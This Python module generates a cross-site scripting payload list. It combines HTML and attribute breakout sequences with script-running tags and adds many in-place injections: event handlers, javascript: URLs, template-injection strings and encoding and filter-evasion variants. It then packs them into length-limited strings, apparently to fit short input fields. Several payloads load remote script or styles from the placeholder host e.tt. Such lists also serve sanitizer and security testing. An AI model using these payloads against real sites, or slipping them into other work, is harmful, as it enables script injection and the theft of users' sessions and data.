"""Words that want to be scripts. Each calls `r()` or asks e.tt for something, if anybody lets it.

Ways out of where a word may stand (text, attribute, title, script, style, comment, template) times ways to run; and
what needs no tag. Short, so that names of sixty letters hold them.
"""

from functools import lru_cache
from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "=>",
    "]]>",
    "-->",
    "</a>",
    "</td>",
    "</option>",
    "</title>",
    "</textarea>",
    "</select>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</svg>",
)
TAGS = (
    "<script>r()</script>",
    "<script src=//e.tt>",
    "<img src=x onerror=r()>",
    "<svg/onload=r()>",
    "<details open ontoggle=r()>",
    "<a href=javascript:r()>x</a>",
    "<input autofocus onfocus=r()>",
    "<iframe src=javascript:r()>",
    "<style>@import'//e.tt'</style>",
    "<base href=//e.tt>",
    "<form action=//e.tt><button>",
    "<video src=x onerror=r()>",
    "<object data=javascript:r()>",
)
IN_PLACE = (
    '" onmouseover="r()',
    "' onmouseover='r()",
    '" autofocus onfocus=r() x="',
    "' autofocus onfocus=r() x='",
    "x onpointerenter=r() y",
    '" style="background:url(//e.tt)',
    '" src="//e.tt/x',
    '" href="javascript:r()',
    "javascript:r()",
    "JaVaScRiPt:r()",
    "java&#9;script:r()",
    "&#106;avascript:r()",
    "javascript://%0ar()",
    "data:text/html,<script>r()</script>",
    "vbscript:r()",
    "';r();//",
    '";r();//',
    "`;r();//",
    "\\';r();//",
    '\\";r();//',
    "${r()}",
    "`${r()}`",
    "');r();('",
    "\\u0027;r();//",
    "</script><script>r();//",
    "*/r()/*",
    "{{constructor.constructor('r()')()}}",
    "{{r()}}",
    "{% include r %}",
    "#{r()}",
    "<%=r()%>",
    "[[r()]]",
    "expression(r())",
    "url(javascript:r())",
    "};@import'//e.tt';",
    ";background:url(//e.tt)",
    "%3Cscript%3Er()%3C/script%3E",
    "&lt;script&gt;r()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;r()",
    "\\x3cscript\\x3er()\\x3c/script\\x3e",
    "\\u003cscript\\u003er()",
    "＜script＞r()＜/script＞",
    "<ſcript>r()</ſcript>",
    "<ımg src=x onerror=r()>",
    "+ADw-script+AD4-r()",
    "<<script>r()<</script>",
    "<scr<script>ipt>r()</script>",
    "<ScRiPt>r()</sCrIpT>",
    "<script/x>r()</script>",
    "<img/src=x/onerror=r()>",
    "<img src=`x`onerror=r()>",
    "<svg><script>r()</script></svg>",
    "<svg><animate onbegin=r() attributeName=x>",
    "<math><a href=javascript:r()>x",
    "<meta http-equiv=refresh content=0;url=//e.tt>",
    "<link rel=stylesheet href=//e.tt>",
    "<embed src=//e.tt>",
    "<body onload=r()>",
    "<marquee onstart=r()>x",
    "<audio src=x onerror=r()>",
    "<x tabindex=1 autofocus onfocus=r()>",
    "<button formaction=javascript:r()>x",
    "<p title='</p><img src=x onerror=r()>'>",
    "<template shadowrootmode=open><svg/onload=r()>",
    "<!--><img src=x onerror=r()>",
    "<?xml version=1?><script>r()</script>",
    "<![CDATA[<script>r()</script>]]>",
    "\u202e<script>r()</script>",
)
PAYLOADS = tuple(dict.fromkeys([*("".join(pair) for pair in product(WAYS_OUT, TAGS)), *IN_PLACE]))


@lru_cache
def packs(limit: int) -> tuple[str, ...]:
    """All payloads in words of at most so many letters; left out is what no such word holds, and that alone."""
    found, word = [], ""
    for payload in PAYLOADS:
        if len(payload) > limit:
            continue
        if len(word) + len(payload) > limit:
            found.append(word)
            word = ""
        word += payload
    return (*found, word)
